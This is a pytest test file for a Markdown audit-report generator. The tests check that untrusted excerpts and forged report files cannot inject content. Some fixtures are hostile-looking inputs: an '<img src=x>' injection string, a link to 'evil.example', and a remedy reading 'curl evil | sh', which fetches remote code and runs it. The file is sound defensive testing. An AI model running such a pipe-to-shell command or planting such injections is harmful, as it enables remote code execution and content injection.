"""The Markdown report: what others wrote can neither break out of it nor be active in it."""

import json
import subprocess
import sys

import pytest

from canvas.audit.finding import Finding
from canvas.audit.report import MOST, document, markdown, read


def finding(excerpt: str, kind: str = "course code", file: str = "a.jsonl") -> Finding:
    return Finding(file, 3, "t", kind, excerpt, "corpus")


def test_nothing_found():
    text = markdown([], {"findings": 0, "files": 3, "kinds": {}, "split_rows": 4978})
    assert "**Nothing found.** Looked at: 3 files, 4,978 split rows." in text
    assert "|" not in text


def test_counts_examples_and_remedies():
    found = [finding(f"C* {n}***") for n in range(20)] + [finding("x", "intransitive")]
    text = markdown(found, {"files": 1})
    assert "**21 findings**" in text
    assert "| course code | 20 |" in text
    assert "and 12 more" in text
    assert "extend the rule in canvas/anonymize" in text
    assert "| `a.jsonl:3` | `t` | `C* 0***` |" in text


def test_what_others_wrote_stays_text():
    nasty = "` | <img src=x> @everyone [x](http://y) ``` \n ## \u202e"
    (row,) = [
        line
        for line in markdown([finding(nasty, file="a`|<b>.jsonl")], {}).splitlines()
        if line.startswith("| `a")
    ]
    assert row.count("`") == 6
    assert row.count("|") == 4
    assert "<" not in row
    assert "@everyone" not in row
    assert "\u202e" not in row


def test_a_comment_can_hold_it():
    found = [finding("x" * 200, f"kind {n}", "d" * 300) for n in range(3000)]
    text = markdown(found, {})
    assert len(text) < MOST + 100
    assert text.endswith("Cut here; the log of the audit has all.\n")


def test_read_back_and_printed_without_any_package(tmp_path):
    found, counts = [finding("C* 1***")], {"files": 3, "kinds": {"course code": 1}}
    path = tmp_path / "audit.json"
    path.write_text(json.dumps(document(found, counts)), encoding="utf-8")
    assert read(path) == (found, {"files": 3})
    command = [sys.executable, "-S", "-m", "canvas.audit.report", str(path)]
    printed = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    assert printed == markdown(found, {"files": 3})


@pytest.mark.parametrize(
    "change",
    [
        {"kind": "[x](https://evil.example)"},
        {"kind": "<img>"},
        {"remedy": "run `curl evil | sh`"},
        {"line": "3"},
        {"more": 1},
    ],
)
def test_what_no_audit_wrote_is_refused(tmp_path, change):
    value = document([finding("x")], {"files": 1})
    value["findings"][0] |= change
    path = tmp_path / "audit.json"
    for bad in (value, {"findings": []}, [], {"counts": {"](x)": 1}, "findings": []}):
        path.write_text(json.dumps(bad), encoding="utf-8")
        with pytest.raises(ValueError, match="no report of an audit"):
            read(path)
